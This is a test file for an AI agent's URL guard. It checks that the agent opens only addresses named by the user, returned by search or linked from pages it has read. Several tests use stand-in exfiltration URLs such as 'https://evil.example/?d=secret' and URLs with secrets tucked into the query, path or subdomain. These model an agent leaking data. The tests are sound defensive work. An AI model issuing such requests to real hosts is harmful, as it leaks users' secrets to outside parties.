import { describe, expect, it } from "vitest";
import { addressesToPassOn } from "@/lib/agent/calls/openable-texts";
import { output, run } from "@/testing/activities/run-around-calls";
import { hit, readPages, search } from "@/testing/agent/loop-script";
import { UNKNOWN_ADDRESS } from "./known-addresses";

const readAll = (url: string) => `Text of ${url}`;
type Pages = { pages: { url: string; status: string; note?: string }[] };
const pagesOf = (test: Awaited<ReturnType<typeof run>>, call: string) => (output(test, call) as Pages).pages;

describe("addresses that nobody named", () => {
  it("SEC-4: are rejected before anything is fetched, with a sentence that the model can act on", async () => {
    const test = await run({
      question: "Why?",
      calls: [[readPages("https://evil.example/?d=secret", "http://10.0.0.1/", "https://docs.example/")]],
      read: readAll,
    });
    expect(pagesOf(test, "1-0").map(({ status, note }) => [status, note])).toEqual([
      ["failed", UNKNOWN_ADDRESS],
      ["failed", UNKNOWN_ADDRESS],
      ["failed", UNKNOWN_ADDRESS],
    ]);
    expect(test.fetched).toEqual([]);
  });

  it("SEC-4: a found address with another query is a different address", async () => {
    const test = await run({
      question: "Why?",
      calls: [
        [search("x")],
        [
          readPages(
            "https://a.test/page?d=secret",
            "https://a.test/page/secret",
            "https://secret.a.test/page",
            "https://a.test/page#secret",
          ),
        ],
      ],
      search: () => [hit("a")],
      read: readAll,
    });
    expect(pagesOf(test, "2-0").map(({ status }) => status)).toEqual(["failed", "failed", "failed", "read"]);
    expect(test.fetched).toHaveLength(1);
    expect(test.fetched[0]).toMatch(/^https:\/\/a\.test\/page(#|$)/);
  });

  it("SEC-4: the address is opened as it was seen, without the model's additions", async () => {
    const test = await run({
      question: "What does https://typed.example/x say?",
      calls: [
        [search("x")],
        [
          readPages(
            "https://a.test/page?utm_content=secret",
            "https://typed.example/x/?utm_secret=1&gclid=secret",
          ),
        ],
        [readPages("https://linked.example/b?fbclid=secret")],
      ],
      search: () => [hit("a")],
      read: () => "See https://linked.example/b.",
    });
    expect(test.fetched).toEqual([
      "https://a.test/page",
      "https://typed.example/x",
      "https://linked.example/b",
    ]);
  });

  it("SEC-4: the model's own words open nothing: neither its queries, nor its plan, nor its reasons", async () => {
    const test = await run({
      question: "Why?",
      calls: [
        [search("https://evil.example/secret")],
        [{ ...readPages("https://evil.example/secret"), _reasoningForCall: "https://evil.example/secret" }],
      ],
      search: () => [hit("a")],
      read: readAll,
    });
    expect(test.fetched).toEqual([]);
  });
});

describe("addresses that may be opened", () => {
  it("SEC-4: search results, also addresses within their text", async () => {
    const test = await run({
      question: "Why?",
      calls: [[search("x")], [readPages("https://a.test/page", "https://other.example/in-words")]],
      search: () => [{ ...hit("a"), snippet: "More at https://other.example/in-words." }],
      read: readAll,
    });
    expect(test.fetched).toEqual(["https://a.test/page", "https://other.example/in-words"]);
  });

  it("SEC-4: addresses in pages that were read, step by step", async () => {
    const links: Record<string, string> = {
      "https://a.test/page": "See [the next](https://b.example/next?page=2).",
      "https://b.example/next?page=2": "And https://c.example/end too.",
    };
    const test = await run({
      question: "Why?",
      calls: [
        [search("x")],
        [readPages("https://a.test/page")],
        [readPages("https://b.example/next?page=2", "https://c.example/end")],
        [readPages("https://c.example/end")],
      ],
      search: () => [hit("a")],
      read: (url) => links[url] ?? "The end.",
    });
    expect(test.fetched).toEqual([
      "https://a.test/page",
      "https://b.example/next?page=2",
      "https://c.example/end",
    ]);
  });

  it("SEC-4: addresses in the user's question, with or without a scheme", async () => {
    const test = await run({
      question: "Compare docs.example/guide with https://пример.example/.",
      calls: [[readPages("https://docs.example/guide", "https://xn--e1afmkfd.example/")]],
      read: readAll,
    });
    expect(pagesOf(test, "1-0").map(({ status }) => status)).toEqual(["read", "read"]);
  });

  it("SEC-4: addresses that the user wrote earlier in the thread", async () => {
    const test = await run({
      question: "And now?",
      earlier: [
        {
          runId: "run_0",
          question: "What says https://docs.example/old?",
          answer: "It names https://invented.example/.",
          reportId: null,
          reportTitle: null,
        },
      ],
      calls: [[readPages("https://docs.example/old", "https://invented.example/")]],
      read: readAll,
    });
    expect(test.fetched).toEqual(["https://docs.example/old"]);
  });
});

describe("a delegate", () => {
  it("SEC-4: its question opens only addresses that the parent run could open and passed on", async () => {
    const asked = "Read https://docs.example/a. and https://evil.example/?d=secret";
    const parent = await run({ question: "What says docs.example/a?", calls: [], read: readAll });
    expect(addressesToPassOn(parent.state, asked)).toEqual(["https://docs.example/a"]);
    const test = await run({
      question: asked,
      start: {
        delegatedBy: {
          runId: "run_0",
          callId: "1-0",
          addresses: addressesToPassOn(parent.state, asked),
        },
      },
      calls: [[readPages("https://docs.example/a", "https://evil.example/?d=secret")]],
      read: readAll,
    });
    expect(test.fetched).toEqual(["https://docs.example/a"]);
  });
});
